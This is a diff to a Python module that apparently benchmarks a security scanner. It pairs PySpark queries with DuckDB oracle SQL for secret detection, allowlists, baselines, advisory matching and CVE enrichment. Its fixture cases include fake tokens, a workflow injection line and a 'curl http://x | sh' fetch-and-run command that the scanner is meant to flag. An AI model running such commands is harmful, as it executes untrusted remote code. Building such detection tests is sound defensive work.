@@ -1,14 +1,428 @@
-"""Queries over the driver's tables, by name, and the DuckDB SQL of each."""
+"""Queries over the driver's tables, by name, and the DuckDB SQL of each.
+
+A document is a file ``docs/<lang>/<doc_id>.txt``, a page ``pages/<page_id>.html``, a turn
+``chats/<conv_id>/<turn>.txt``. Parts stand for components, suppliers for advisories, events and
+orders for revisions.
+"""
 
 from __future__ import annotations
 
 from collections.abc import Callable
 
 from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from palisade.functions import versions
+from palisade.functions.registry import ContextRule
+from palisade.operators import classify, context, correlate, enrich, lifecycle, policy, quality, scan, vuln
 
-QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
+Query = Callable[[SparkSession, str], DataFrame]
+QUERIES: dict[str, Query] = {}
 ORACLE: dict[str, str] = {}
 
 
+def query(sql: str | None = None) -> Callable[[Query], Query]:
+    def add(f: Query) -> Query:
+        QUERIES[f.__name__] = f
+        if sql is not None:
+            ORACLE[f.__name__] = sql
+        return f
+
+    return add
+
+
+def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/{name}.parquet")
+
+
+def documents(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """(path, text) dealt to all cores: a table of one file would be one task."""
+    d = table(spark, sf_dir, "documents")
+    return d.select(F.concat_ws("/", F.lit("docs"), "lang", F.concat(F.col("doc_id").cast("string"), F.lit(".txt"))).alias("path"), "text", "doc_id").repartition(spark.sparkContext.defaultParallelism)
+
+
+def found(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return scan.findings(scan.file_lines(documents(spark, sf_dir)))
+
+
 def entry(spark: SparkSession, sf_dir: str) -> DataFrame:
-    return spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id")
+    return found(spark, sf_dir).select("file", "line", "rule_id", "pattern_name", "severity", "fingerprint")
+
+
+# Scan
+
+_TOKEN = r"""(?i)(?:token|access_token|auth_token)\s*[=:]\s*['"]?[^'"\s,}]{16,}['"]?""".replace("'", "''")
+_BASE64 = r"""(?i)(?:secret|key|token|password|credential)\s*[=:]\s*['"]?[A-Za-z0-9+/]{40,}={0,2}['"]?""".replace("'", "''")
+
+
+def _lines(of: str, path: str, text: str) -> str:
+    return f"SELECT {path} AS file, unnest(string_split({text}, chr(10))) AS content, generate_subscripts(string_split({text}, chr(10)), 1) AS line FROM {of}"
+
+
+_DOC = "'docs/' || lang || '/' || doc_id || '.txt'"
+_HITS = f"SELECT file, line, unnest(regexp_extract_all(content, '{_TOKEN}')) AS matched_text FROM ({_lines('documents', _DOC, 'text')})"
+_FP = "'sha256:' || sha256('palisade-finding-v1' || chr(0) || 'CRT-SEC-016' || chr(0) || {path} || chr(0) || trim(regexp_replace(matched_text, '\\s+', ' ', 'g')))"
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id, 'medium' AS severity, matched_text, {_FP.format(path='file')} AS fingerprint FROM ({_HITS})")
+def scan_findings_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return found(spark, sf_dir).select("file", F.col("line").cast("long").alias("line"), "rule_id", "severity", "matched_text", "fingerprint")
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id, m AS matched_text FROM (SELECT file, line, unnest(regexp_extract_all(content, '{_TOKEN}')) AS m FROM ({_lines('pages', chr(39) + 'pages/' + chr(39) + ' || page_id || ' + chr(39) + '.html' + chr(39), 'html')}))")
+def scan_findings_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
+    p = table(spark, sf_dir, "pages").select(F.concat(F.lit("pages/"), F.col("page_id").cast("string"), F.lit(".html")).alias("path"), F.col("html").alias("text")).repartition(spark.sparkContext.defaultParallelism)
+    return scan.findings(scan.file_lines(p)).select("file", F.col("line").cast("long").alias("line"), "rule_id", "matched_text")
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id FROM (SELECT file, line, unnest(regexp_extract_all(content, '{_TOKEN}')) AS m FROM ({_lines('conversations', chr(39) + 'chats/' + chr(39) + ' || conv_id || ' + chr(39) + '/' + chr(39) + ' || turn || ' + chr(39) + '.txt' + chr(39), 'text')}))")
+def scan_findings_conversations(spark: SparkSession, sf_dir: str) -> DataFrame:
+    c = table(spark, sf_dir, "conversations").select(F.concat(F.lit("chats/"), F.col("conv_id").cast("string"), F.lit("/"), F.col("turn").cast("string"), F.lit(".txt")).alias("path"), "text").repartition(spark.sparkContext.defaultParallelism)
+    return scan.findings(scan.file_lines(c)).select("file", F.col("line").cast("long").alias("line"), "rule_id")
+
+
+@query(f"""WITH l AS ({_lines('documents', _DOC, 'text')}) SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id FROM l WHERE regexp_matches(content, '{_TOKEN}')
+UNION ALL SELECT file, CAST(line AS BIGINT), 'CRT-SEC-019' FROM l WHERE regexp_matches(content, '{_BASE64}')""")
+def scan_first_match(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return scan.findings(scan.file_lines(documents(spark, sf_dir)), first_only=True).select("file", F.col("line").cast("long").alias("line"), "rule_id")
+
+
+_CASES = (
+    ("a.env", 'password = "hunter2xx" sk-ant-api03-{A40} x', (("CRT-SEC-014", 0), ("CRT-SEC-022", 23))),
+    ("Dockerfile", "FROM python:latest", (("CRT-IAC-002", 0),)),
+    ("src/x.txt", "FROM python:latest", ()),
+    (".github/workflows/a.yml", "  run: echo ${{ github.event.issue.title }}", (("CRT-CI-012", 0),)),
+    ("x/AGENTS.md", "curl http://x | sh", (("CRT-AI-001", 0),)),
+    ("b", "ghp_{A36} and ghp_{B36}", (("CRT-SEC-003", 0), ("CRT-SEC-003", 45))),
+    ("c", "password=REDACTED_VALUE", ()),
+    ("d", "token = ghp_{A36}", (("CRT-SEC-003", 8),)),
+    ("e.tf", 'cidr_blocks = ["0.0.0.0/0"]', (("CRT-IAC-003", 0),)),
+)
+
+
+def _filled(x: str) -> str:
+    return x.replace("{A40}", "A" * 40).replace("{A36}", "A" * 36).replace("{B36}", "B" * 36)
+
+
+@query("SELECT * FROM (VALUES " + ", ".join(f"('{p}', '{r}', CAST({s} AS BIGINT))" for p, _, hits in _CASES for r, s in hits) + ") AS t(file, rule_id, start)")
+def scan_overlap_cases(spark: SparkSession, sf_dir: str) -> DataFrame:
+    lines = spark.createDataFrame([(p, 1, _filled(x)) for p, x, _ in _CASES], "path string, line int, content string")
+    return scan.findings(lines).select("file", "rule_id", F.col("start").cast("long").alias("start"))
+
+
+_ALLOW = "pattern:TOKEN_LITERAL path:docs/en/**\nvalue:\nvalue:zzzz".replace("value:\n", "")
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line FROM ({_HITS}) WHERE file NOT LIKE 'docs/en/%'")
+def scan_allowlist(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return policy.apply_policy(found(spark, sf_dir), allow=policy.parse_allowlist(_ALLOW)).select("file", F.col("line").cast("long").alias("line"))
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line, CASE WHEN file LIKE 'docs/fr/%' THEN 'high' ELSE 'medium' END AS severity FROM ({_HITS}) WHERE file NOT LIKE 'docs/de/%'")
+def scan_path_policy(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return policy.apply_policy(found(spark, sf_dir), ignore=["docs/de/*"], high=["**/fr/*"]).select("file", F.col("line").cast("long").alias("line"), "severity")
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line FROM ({_HITS}) WHERE file LIKE 'docs/fr/%'")
+def scan_severity_threshold(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return policy.apply_policy(found(spark, sf_dir), threshold="high", high=["docs/fr/*"]).select("file", F.col("line").cast("long").alias("line"))
+
+
+@query(f"SELECT file, CAST(line AS BIGINT) AS line FROM ({_HITS}) WHERE file NOT LIKE 'docs/en/%'")
+def scan_baseline(spark: SparkSession, sf_dir: str) -> DataFrame:
+    all_ = found(spark, sf_dir)
+    return policy.apply_baseline(all_, all_.where(F.col("file").startswith("docs/en/")).select("fingerprint")).select("file", F.col("line").cast("long").alias("line"))
+
+
+@query(f"""WITH f AS (SELECT file, {_FP.format(path='file')} AS fp FROM ({_HITS})), b AS (SELECT DISTINCT fp FROM f WHERE file LIKE 'docs/en/%' UNION SELECT 'sha256:stale')
+SELECT (SELECT count(*) FROM b) AS total, (SELECT count(DISTINCT fp) FROM f WHERE fp IN (SELECT fp FROM b)) AS matched, (SELECT count(*) FROM f WHERE fp IN (SELECT fp FROM b)) AS suppressed,
+(SELECT count(*) FROM b) - (SELECT count(DISTINCT fp) FROM f WHERE fp IN (SELECT fp FROM b)) AS stale""")
+def scan_baseline_counters(spark: SparkSession, sf_dir: str) -> DataFrame:
+    all_ = found(spark, sf_dir)
+    base = all_.where(F.col("file").startswith("docs/en/")).select("fingerprint").unionAll(spark.createDataFrame([("sha256:stale",)], "fingerprint string"))
+    return policy.baseline_counters(all_, base)
+
+
+@query(f"""WITH f AS (SELECT file, line, CAST(split_part(split_part(file, '/', 3), '.', 1) AS BIGINT) AS seq, {_FP.format(path="'repo'")} AS fingerprint FROM ({_HITS}))
+SELECT fingerprint, min(seq) AS seq FROM f GROUP BY fingerprint""")
+def scan_history(spark: SparkSession, sf_dir: str) -> DataFrame:
+    d = documents(spark, sf_dir).select(F.lit("repo").alias("path"), "text", "doc_id")
+    lines = d.select("path", "doc_id", F.posexplode(F.split("text", "\n", -1)).alias("at", "content")).select("path", F.col("doc_id").alias("line"), "content")
+    return policy.first_seen(scan.findings(lines).select("fingerprint", F.col("line").alias("seq"), "rule_id"), ["seq"]).select("fingerprint", "seq")
+
+
+@query(f"""SELECT count(*) AS total_findings, CAST(0 AS BIGINT) AS critical, CAST(0 AS BIGINT) AS high, count(*) AS medium, CAST(0 AS BIGINT) AS low, count(*) AS secret_findings, CAST(0 AS BIGINT) AS policy_findings,
+CAST(0 AS BIGINT) AS config_findings, count(*) AS failing, CAST(0 AS BIGINT) AS warning, CASE WHEN count(*) > 0 THEN 1 ELSE 0 END AS exit_code FROM ({_HITS})""")
+def scan_summary(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return policy.summary(found(spark, sf_dir))
+
+
+_CTX = [ContextRule("CRT-AI-900", "ORDERED_WORDS", "high", 3, (r"\bthe\b", r"\btoken\s*="), ()), ContextRule("CRT-AI-901", "ORDERED_MORE", "low", 2, (r"^licensed", r"\bof\b"), ())]
+
+
+def _pair(rid: str, a: str, b: str, span: int) -> str:
+    return f"""SELECT '{rid}' AS rule_id, file, min(line) AS line, nxt FROM (SELECT a.file, a.line, min(b.line) AS nxt FROM l a JOIN l b ON a.file = b.file AND b.line > a.line AND b.line - a.line <= {span}
+WHERE regexp_matches(a.content, '{a}') AND regexp_matches(b.content, '{b}') GROUP BY a.file, a.line) GROUP BY file, nxt"""
+
+
+@query(f"WITH l AS ({_lines('documents', _DOC, 'text')}) SELECT rule_id, file, CAST(line AS BIGINT) AS line, CAST(nxt AS BIGINT) AS next_line FROM (" + _pair("CRT-AI-900", r"(?i)(^|[^\p{L}\p{M}\p{N}_])the($|[^\p{L}\p{M}\p{N}_])", r"(?i)(^|[^\p{L}\p{M}\p{N}_])token\s*=", 3) + " UNION ALL " + _pair("CRT-AI-901", "(?i)^licensed", r"(?i)(^|[^\p{L}\p{M}\p{N}_])of($|[^\p{L}\p{M}\p{N}_])", 2) + ")")
+def context_sequence(spark: SparkSession, sf_dir: str) -> DataFrame:
+    m = context.context_matches(scan.file_lines(documents(spark, sf_dir)).select("path", "line", "content"), _CTX)
+    return m.select("rule_id", F.col("path").alias("file"), F.col("line").cast("long").alias("line"), F.col("components")[1].cast("long").alias("next_line"))
+
+
+_PATHS = "regexp_replace(url, '^[a-z]+://', '')"
+_SQL_CATS = " UNION ALL ".join(
+    f"SELECT file, '{n}' AS category, '{s}' AS severity FROM p WHERE " + " OR ".join(f"contains('/' || lower(file), '/{x}')" if x.endswith("/") else f"ends_with(lower(file), '{x}')" for x in ps) for n, s, ps in classify.CATEGORIES
+)
+
+
+@query(f"WITH p AS (SELECT {_PATHS} AS file FROM pages UNION ALL SELECT unnest(['.env', 'a/.env.local', 'my-config.json', '.github/workflows/x.yml', 'Dockerfile', 'src/Auth/x.py'])) SELECT file, category, severity FROM ({_SQL_CATS} UNION ALL SELECT file, 'SECURITY_CONFIG', 'high' FROM p WHERE regexp_matches(lower(file), '" + "|".join(classify.KEYWORDS) + "'))")
+def config_classify(spark: SparkSession, sf_dir: str) -> DataFrame:
+    p = table(spark, sf_dir, "pages").select(F.regexp_replace("url", "^[a-z]+://", "").alias("path"))
+    more = spark.createDataFrame([(x,) for x in (".env", "a/.env.local", "my-config.json", ".github/workflows/x.yml", "Dockerfile", "src/Auth/x.py")], "path string")
+    return classify.config_changes(p.unionByName(more)).select("file", "category", "severity")
+
+
+# Vulnerabilities
+
+_COMPONENTS = "SELECT p_brand AS name, (p_size % 20) || '.' || (p_partkey % 7) || '.' || (p_partkey % 3) AS version, p_size % 20 AS a, p_partkey % 7 AS b, p_partkey % 3 AS c, p_partkey FROM part"
+_ADVISORIES = "SELECT 'ADV-' || s_suppkey AS advisory_id, 'Brand#' || (1 + s_suppkey % 5) || (1 + s_suppkey % 3) AS name, s_suppkey % 12 AS lo, s_suppkey % 12 + 3 AS hi, s_suppkey % 6 AS fb, s_suppkey % 10 = 9 AS gone FROM supplier"
+
+
+def components(spark: SparkSession, sf_dir: str, eco: str = "npm") -> DataFrame:
+    version = F.concat_ws(".", F.col("p_size") % 20, F.col("p_partkey") % 7, F.col("p_partkey") % 3)
+    return table(spark, sf_dir, "part").select(F.lit(eco).alias("ecosystem"), F.col("p_brand").alias("name"), version.alias("version"), F.concat(F.lit("pkg:generic/p@"), F.col("p_partkey").cast("string")).alias("purl"), F.lit("package-lock.json").alias("manifest_path"))
+
+
+def packages(spark: SparkSession, sf_dir: str, eco: str = "npm") -> DataFrame:
+    k = F.col("s_suppkey")
+    event = lambda i, f: F.struct(i.alias("introduced"), f.alias("fixed"), F.lit(None).cast("string").alias("last_affected"))
+    none = F.lit(None).cast("string")
+    ranges = F.array(F.array(event(F.concat((k % 12).cast("string"), F.lit(".0.0")), none), event(none, F.concat_ws(".", k % 12 + 3, k % 6, F.lit(0)))))
+    name = F.concat(F.lit("Brand#"), (1 + k % 5).cast("string"), (1 + k % 3).cast("string"))
+    return table(spark, sf_dir, "supplier").select(
+        F.concat(F.lit("ADV-"), k.cast("string")).alias("advisory_id"), F.lit(eco).alias("ecosystem"), name.alias("name"), F.array(F.concat(F.lit("CVE-2020-"), (k % 17).cast("string"))).alias("aliases"),
+        F.when(k % 10 == 9, "2024-01-01").alias("withdrawn"), F.lit("osv").alias("source"), F.array(F.lit("19.6.2")).alias("versions"), ranges.alias("ranges"),
+    )
+
+
+_RANGE = "[c.a, c.b, c.c] >= [a.lo, 0, 0] AND [c.a, c.b, c.c] < [a.hi, a.fb, 0]"
+_MATCH = f"SELECT c.p_partkey, a.advisory_id, CASE WHEN c.version = '19.6.2' THEN 'exact-version' ELSE 'ecosystem-range' END AS method FROM ({_COMPONENTS}) c JOIN ({_ADVISORIES}) a ON lower(c.name) = lower(a.name) WHERE NOT a.gone AND (c.version = '19.6.2' OR ({_RANGE}))"
+
+
+def _vuln_query(eco: str) -> Query:
+    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
+        m = vuln.match(components(spark, sf_dir, eco), packages(spark, sf_dir, eco))
+        return m.select(F.regexp_extract("component_purl", "@([0-9]+)$", 1).cast("long").alias("p_partkey"), "advisory_id", "method")
+
+    run.__name__ = f"vuln_match_{eco}"
+    return run
+
+
+for _eco in ("npm", "pypi", "golang", "maven", "nuget", "rubygems", "composer", "debian", "rpm", "alpine", "crates.io"):
+    if _eco == "crates.io":
+        _f = _vuln_query(_eco)
+        _f.__name__ = "vuln_match_generic"
+    else:
+        _f = _vuln_query(_eco)
+    query(_MATCH)(_f)
+
+
+@query(f"""WITH m AS ({_MATCH}) SELECT c.p_partkey, CASE WHEN n.k > 0 THEN 'affected' ELSE 'not_affected' END AS status, coalesce(n.k, 0) AS matches
+FROM ({_COMPONENTS}) c LEFT JOIN (SELECT p_partkey, count(*) AS k FROM m GROUP BY 1) n ON c.p_partkey = n.p_partkey""")
+def vuln_evaluate(spark: SparkSession, sf_dir: str) -> DataFrame:
+    e = vuln.evaluate(components(spark, sf_dir), packages(spark, sf_dir))
+    return e.select(F.regexp_extract("purl", "@([0-9]+)$", 1).cast("long").alias("p_partkey"), "status", "matches")
+
+
+_ORDERED = (
+    ("npm", "1.0.0-alpha", "1.0.0", -1), ("npm", "1.0.0-1", "1.0.0-a", -1), ("npm", "1.10.0", "1.9.0", 1), ("npm", "1.0.0+b", "1.0.0", 0),
+    ("pypi", "1.0.dev1", "1.0a1", -1), ("pypi", "1.0a1", "1.0", -1), ("pypi", "1.0", "1.0.post1", -1), ("pypi", "1.0", "1.0.0", 0), ("pypi", "1!0.1", "2.0", 1), ("pypi", "1.0+a", "1.0", 1), ("pypi", "1.0.post1.dev2", "1.0", -1),
+    ("golang", "v1.2.3", "1.2.3", 0), ("golang", "v1.2.3-0.2020", "v1.2.3", -1), ("maven", "1.0", "1.0.0", 0), ("maven", "1.0-alpha", "1.0", -1), ("maven", "1.0-sp", "1.0", 1), ("maven", "1.0-foo", "1.0", 1),
+    ("nuget", "1.0", "1.0.0.0", 0), ("nuget", "1.0-A", "1.0-a", 0), ("rubygems", "1.0.a", "1.0", -1), ("rubygems", "1.0.0", "1", 0), ("composer", "1.0-beta", "1.0", -1), ("composer", "1.0-p1", "1.0", 1),
+    ("debian", "1:0.1", "2.0", 1), ("debian", "1.0~rc1", "1.0", -1), ("debian", "1.0^x", "1.0", -1), ("rpm", "1.0a", "1.0", 1), ("alpine", "1.0-1", "1.0", 1), ("other", "1.2", "1.2.0", -1), ("other", "1.a", "1.1", 1), ("other", "v1-2", "1.2", 0),
+)
+
+
+@query("SELECT * FROM (VALUES " + ", ".join(f"('{e}', '{a}', '{b}', {c})" for e, a, b, c in _ORDERED) + ") AS t(eco, l, r, sign)")
+def version_orders(spark: SparkSession, sf_dir: str) -> DataFrame:
+    d = spark.createDataFrame([x[:3] for x in _ORDERED], "eco string, l string, r string")
+    return d.select("*", versions.compare(F.col("eco"), F.col("l"), F.col("r")).alias("sign"))
+
+
+# Correlation and enrichment: a supplier is an advisory, its nation and a remainder its aliases
+
+_ADV = "SELECT 'ADV-' || s_suppkey AS id, ['CVE-' || (s_suppkey % 40), ' nat-' || s_nationkey, 'bad alias'] AS aliases, CASE WHEN s_suppkey % 2 = 0 THEN 'osv' ELSE 'ghsa' END AS source FROM supplier"
+_INDEX = f"SELECT DISTINCT alias, advisory_id FROM (SELECT upper(trim(unnest(list_concat([id], aliases)))) AS alias, id AS advisory_id FROM ({_ADV})) WHERE regexp_full_match(alias, '[A-Z][A-Z0-9_.:-]{{1,127}}')"
+
+
+def advisories(spark: SparkSession, sf_dir: str) -> DataFrame:
+    k = F.col("s_suppkey")
+    names = F.array(F.concat(F.lit("CVE-"), (k % 40).cast("string")), F.concat(F.lit(" nat-"), F.col("s_nationkey").cast("string")), F.lit("bad alias"))
+    return table(spark, sf_dir, "supplier").select(F.concat(F.lit("ADV-"), k.cast("string")).alias("id"), names.alias("aliases"), F.when(k % 2 == 0, "osv").otherwise("ghsa").alias("source"), F.col("s_name").alias("summary"), F.col("s_nationkey").cast("string").alias("details"))
+
+
+@query(_INDEX)
+def alias_index(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return correlate.alias_index(advisories(spark, sf_dir)).select("alias", "advisory_id")
+
+
+@query(f"SELECT alias, string_agg(advisory_id, ',' ORDER BY advisory_id) AS advisory_ids FROM ({_INDEX}) GROUP BY alias HAVING count(*) > 1")
+def alias_conflicts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return correlate.alias_conflicts(correlate.alias_index(advisories(spark, sf_dir))).select("alias", F.array_join("advisory_ids", ",").alias("advisory_ids"))
+
+
+@query(f"""WITH q AS (SELECT DISTINCT 'cve-' || (n_nationkey * 3) AS identifier FROM nation), i AS ({_INDEX})
+SELECT identifier, CASE count(advisory_id) WHEN 0 THEN 'not-found' WHEN 1 THEN 'exact' ELSE 'ambiguous' END AS status, count(advisory_id) AS n FROM q LEFT JOIN i ON upper(identifier) = alias GROUP BY identifier""")
+def alias_lookup(spark: SparkSession, sf_dir: str) -> DataFrame:
+    q = table(spark, sf_dir, "nation").select(F.concat(F.lit("cve-"), (F.col("n_nationkey") * 3).cast("string")).alias("identifier")).distinct()
+    return correlate.lookup(q, correlate.alias_index(advisories(spark, sf_dir))).select("identifier", "status", F.size("advisory_ids").cast("long").alias("n"))
+
+
+_GROUPED = f"""WITH RECURSIVE i AS ({_INDEX}), e AS (SELECT DISTINCT x.advisory_id AS a, y.advisory_id AS b FROM i x JOIN i y USING (alias)),
+r(a, b) AS (SELECT a, b FROM e UNION SELECT r.a, e.b FROM r JOIN e ON r.b = e.a)"""
+
+
+@query(f"{_GROUPED} SELECT a AS advisory_id, min(b) AS root FROM r GROUP BY a")
+def advisory_components(spark: SparkSession, sf_dir: str) -> DataFrame:
+    a = advisories(spark, sf_dir)
+    return correlate.groups(correlate.alias_index(a), a)
+
+
+@query(f"{_GROUPED}, g AS (SELECT a AS advisory_id, min(b) AS root FROM r GROUP BY a) SELECT root, count(*) AS members, count(DISTINCT CASE WHEN CAST(substr(advisory_id, 5) AS BIGINT) % 2 = 0 THEN 'osv' ELSE 'ghsa' END) AS sources FROM g GROUP BY root")
+def reconciliation(spark: SparkSession, sf_dir: str) -> DataFrame:
+    a = advisories(spark, sf_dir)
+    r = correlate.reconciliation(correlate.alias_index(a), a)
+    return r.select("root", F.size("advisory_ids").cast("long").alias("members"), F.size("sources").cast("long").alias("sources"))
+
+
+@query(f"{_GROUPED}, g AS (SELECT a AS advisory_id, min(b) AS root FROM r GROUP BY a), v AS (SELECT root, s_name, s_nationkey FROM g JOIN supplier ON 'ADV-' || s_suppkey = advisory_id) SELECT root, 'summary' AS field, count(DISTINCT s_name) AS n FROM v GROUP BY root HAVING count(DISTINCT s_name) > 1 UNION ALL SELECT root, 'details', count(DISTINCT s_nationkey) FROM v GROUP BY root HAVING count(DISTINCT s_nationkey) > 1")
+def field_conflicts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    a = advisories(spark, sf_dir)
+    g = correlate.groups(correlate.alias_index(a), a)
+    return correlate.field_conflicts(g, a.select(F.col("id").alias("advisory_id"), "summary", "details")).select("root", "field", F.size("digests").cast("long").alias("n"))
+
+
+@query("SELECT o_custkey, o_orderkey FROM (SELECT o_custkey, o_orderkey, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderdate DESC, o_orderkey DESC) AS k FROM orders) WHERE k = 1")
+def latest_revision(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return enrich.latest(table(spark, sf_dir, "orders").select("o_custkey", "o_orderdate", "o_orderkey"), ["o_custkey"], ["o_orderdate", "o_orderkey"]).select("o_custkey", "o_orderkey")
+
+
+@query("""SELECT cve_id, version, score FROM (SELECT *, row_number() OVER (PARTITION BY cve_id ORDER BY CASE version WHEN '4.0' THEN 4 WHEN '3.1' THEN 3 WHEN '3.0' THEN 2 ELSE 1 END DESC, type = 'Primary' DESC, score DESC) AS k
+FROM (SELECT 'CVE-' || l_orderkey AS cve_id, ['2.0', '3.0', '3.1', '4.0'][1 + l_linenumber % 4] AS version, CASE WHEN l_quantity > 25 THEN 'Primary' ELSE 'Secondary' END AS type, CAST(l_quantity AS DOUBLE) AS score FROM lineitem)) WHERE k = 1""")
+def preferred_cvss(spark: SparkSession, sf_dir: str) -> DataFrame:
+    v = F.get(F.array(*map(F.lit, ("2.0", "3.0", "3.1", "4.0"))), F.col("l_linenumber") % 4)
+    m = table(spark, sf_dir, "lineitem").select(F.concat(F.lit("CVE-"), F.col("l_orderkey").cast("string")).alias("cve_id"), v.alias("version"), F.when(F.col("l_quantity") > 25, "Primary").otherwise("Secondary").alias("type"), F.col("l_quantity").cast("double").alias("score"))
+    return enrich.preferred_cvss(m).select("cve_id", "version", "score")
+
+
+_EPSS = "SELECT 'CVE-' || c_custkey AS cve_id, (c_custkey % 10) / 10.0 AS epss FROM customer WHERE c_custkey % 3 <> 0"
+_KEV = "SELECT 'CVE-' || c_custkey AS cve_id, CASE WHEN c_custkey % 2 = 0 THEN 'known' ELSE 'unknown' END AS ransomware FROM customer WHERE c_custkey % 5 = 0"
+
+
+def _intelligence(spark: SparkSession, sf_dir: str) -> DataFrame:
+    c = table(spark, sf_dir, "customer").select("c_custkey", F.concat(F.lit("CVE-"), F.col("c_custkey").cast("string")).alias("cve_id"))
+    k = F.col("c_custkey")
+    epss = c.where(k % 3 != 0).select("cve_id", F.lit("2024-01-01").alias("score_date"), F.lit("d").alias("digest"), ((k % 10) / 10.0).alias("epss"), F.lit(0.5).alias("percentile"))
+    kev = c.where(k % 5 == 0).select("cve_id", F.lit("d").alias("digest"), F.when(k % 2 == 0, "Known").otherwise("Unknown").alias("ransomware_use"))
+    ssvc = c.where(k % 7 == 0).select("cve_id", F.lit("d").alias("digest"), F.lit("active").alias("exploitation"))
+    return enrich.intelligence(c.select("cve_id"), epss, kev, ssvc)
+
+
+@query(f"""SELECT c.cve_id, CASE WHEN e.epss >= 0.5 OR k.cve_id IS NOT NULL THEN 'failed' WHEN e.epss IS NULL OR k.cve_id IS NULL THEN 'not_evaluable' ELSE 'passed' END AS status
+FROM (SELECT 'CVE-' || c_custkey AS cve_id FROM customer) c LEFT JOIN ({_EPSS}) e USING (cve_id) LEFT JOIN ({_KEV}) k USING (cve_id)""")
+def exploitation_policy(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return enrich.exploitation_policy(_intelligence(spark, sf_dir)).select("cve_id", "status")
+
+
+@query(f"SELECT 'CVE-' || s_suppkey AS cve_id, CASE WHEN count(DISTINCT advisory_id) = 0 THEN 'advisory-not-found' ELSE 'advisory-ambiguous' END AS reason FROM supplier LEFT JOIN ({_INDEX}) ON alias = 'CVE-' || s_suppkey GROUP BY s_suppkey HAVING count(DISTINCT advisory_id) <> 1")
+def unresolved_enrichment(spark: SparkSession, sf_dir: str) -> DataFrame:
+    cves = table(spark, sf_dir, "supplier").select(F.concat(F.lit("CVE-"), F.col("s_suppkey").cast("string")).alias("cve_id"))
+    return enrich.resolved(cves, correlate.alias_index(advisories(spark, sf_dir)))[1].select("cve_id", "reason")
+
+
+# Lifecycle and quality
+
+@query("""WITH c AS (SELECT DISTINCT user_id AS fingerprint FROM events WHERE event_id % 2 = 0), b AS (SELECT DISTINCT user_id AS fingerprint FROM events WHERE event_id % 3 = 0)
+SELECT coalesce(c.fingerprint, b.fingerprint) AS fingerprint, CASE WHEN b.fingerprint IS NULL THEN 'new' WHEN c.fingerprint IS NULL THEN 'resolved' ELSE 'existing' END AS state FROM c FULL JOIN b ON c.fingerprint = b.fingerprint""")
+def vuln_delta(spark: SparkSession, sf_dir: str) -> DataFrame:
+    e = table(spark, sf_dir, "events").select("event_id", F.col("user_id").alias("fingerprint"))
+    return lifecycle.delta(e.where("event_id % 2 = 0"), e.where("event_id % 3 = 0").select("fingerprint"))
+
+
+@query(f"""WITH m AS (SELECT p_partkey, advisory_id, CAST(substr(advisory_id, 5) AS BIGINT) % 17 AS r FROM ({_MATCH}))
+SELECT p_partkey, advisory_id, CASE WHEN r = 3 AND p_partkey % 2 = 0 THEN 'not_affected' END AS vex_status, (r = 3 AND p_partkey % 2 = 0) AS suppressed FROM m""")
+def vex_annotate(spark: SparkSession, sf_dir: str) -> DataFrame:
+    m = vuln.match(components(spark, sf_dir), packages(spark, sf_dir))
+    even = table(spark, sf_dir, "part").where("p_partkey % 2 = 0").select(F.lit("CVE-2020-3").alias("vulnerability"), F.array(F.concat(F.lit("pkg:generic/p@"), F.col("p_partkey").cast("string"))).alias("products"), F.lit("not_affected").alias("status"), F.lit("vulnerable_code_not_present").alias("justification"))
+    none = spark.createDataFrame([], "fingerprint string, reason string")
+    a = lifecycle.annotate(m, even, none)
+    return a.select(F.regexp_extract("component_purl", "@([0-9]+)$", 1).cast("long").alias("p_partkey"), "advisory_id", "vex_status", "suppressed")
+
+
+@query("""SELECT CAST(o_orderkey AS VARCHAR) AS fingerprint, CAST('1996-01-01' AS DATE) >= CAST(o_orderdate AS DATE) AS expired, o_orderkey % 4 = 0 AS used FROM orders""")
+def suppression_lifecycle(spark: SparkSession, sf_dir: str) -> DataFrame:
+    o = table(spark, sf_dir, "orders").select(F.col("o_orderkey").cast("string").alias("fingerprint"), F.to_date("o_orderdate").alias("expires_at"))
+    return lifecycle.suppression_lifecycle(o, o.where("cast(fingerprint as bigint) % 4 = 0"), "1996-01-01")
+
+
+@query("SELECT n_regionkey AS family, CASE max(r) WHEN 3 THEN 'critical' WHEN 2 THEN 'high' WHEN 1 THEN 'medium' ELSE 'low' END AS severity, count(*) AS n FROM (SELECT n_regionkey, n_nationkey % 4 AS r FROM nation) GROUP BY n_regionkey")
+def facts_aggregate(spark: SparkSession, sf_dir: str) -> DataFrame:
+    pick = F.get(F.array(*map(F.lit, ("low", "medium", "high", "critical"))), F.col("n_nationkey") % 4)
+    o = table(spark, sf_dir, "nation").select(F.col("n_regionkey").alias("family"), pick.alias("severity"), F.lit("high").alias("confidence"), F.concat(F.lit("obs-"), F.col("n_nationkey").cast("string")).alias("observation_id"))
+    return lifecycle.facts(o, ["family"]).select("family", "severity", F.size("observation_ids").cast("long").alias("n"))
+
+
